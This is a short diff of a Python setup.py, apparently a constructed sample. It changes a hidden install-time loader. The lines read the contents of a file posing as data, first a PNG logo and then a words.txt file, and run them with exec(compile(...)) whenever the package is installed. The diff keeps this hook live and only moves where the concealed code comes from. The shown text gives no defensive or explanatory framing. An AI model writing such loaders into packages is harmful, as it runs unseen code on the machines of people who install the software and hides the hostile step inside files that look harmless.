@@ -1,6 +1,6 @@
 # file: setup.py
 from setuptools import setup
-with open("example/data/logo.png") as handle:
+with open("pkg/words.txt") as handle:
     code = handle.read()
-exec(compile(code, "logo", "exec"))  # fires: install
+exec(compile(code, "words", "exec"))  # fires: install
 setup(name="example", version="1.0")
